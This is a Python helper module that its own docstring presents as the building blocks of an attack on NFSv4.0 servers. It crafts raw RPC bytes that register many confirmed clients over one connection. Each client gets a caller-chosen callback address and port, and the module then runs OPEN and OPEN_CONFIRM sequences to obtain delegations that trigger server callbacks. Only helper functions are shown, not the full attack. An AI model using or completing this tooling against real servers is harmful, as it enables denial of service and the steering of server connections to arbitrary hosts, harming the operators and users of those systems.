"""What an attack needs of NFSv4.0 clients, as bytes: many of them over one connection."""

import nfs41
import rpc

OP_OPEN, OP_OPEN_CONFIRM, OP_SETCLIENTID, OP_SETCLIENTID_CONFIRM = 18, 20, 35, 36
PUT_ROOT = rpc.words(nfs41.OP_PUTROOTFH)
CALLBACK_PROGRAM = 0x40000000
READ, CREATE, UNCHECKED, CLAIM_NULL = 1, 1, 0, 0


class Clients:
    def __init__(self, stream):
        self.stream = stream

    def _must(self, operations, count):
        self.stream.sendall(rpc.compound(operations, count, 0, rpc.auth_sys()))
        status, _, results = nfs41.parsed(rpc.receive(self.stream))
        if status:
            raise nfs41.Refused(status)
        return results

    def introduce(self, name, address, port):
        """A confirmed client that is to be called back there: its id."""
        universal = f"{address}.{port >> 8}.{port & 255}".encode()
        callback = rpc.words(CALLBACK_PROGRAM) + rpc.opaque(b"tcp") + rpc.opaque(universal) + rpc.words(1)
        identity = self._must(rpc.words(OP_SETCLIENTID) + bytes(8) + rpc.opaque(name) + callback, 1)[8:24]
        self._must(rpc.words(OP_SETCLIENTID_CONFIRM) + identity, 1)
        return identity[:8]

    def _open(self, client, name, sequence):
        how = rpc.words(CREATE, UNCHECKED, 0, 0) + rpc.words(CLAIM_NULL) + rpc.opaque(name)
        return self._must(PUT_ROOT + rpc.words(OP_OPEN, sequence, READ, 0) + client + rpc.opaque(b"o") + how, 2)

    def open_for_delegation(self, client, name):
        """The first OPEN of an owner has to be confirmed; a delegation would come with the second one."""
        stateid = self._open(client, name, 1)[16:32]
        self._must(PUT_ROOT + rpc.words(nfs41.OP_LOOKUP) + rpc.opaque(name) + rpc.words(OP_OPEN_CONFIRM) + stateid +
                   rpc.words(2), 3)
        self._open(client, name, 3)
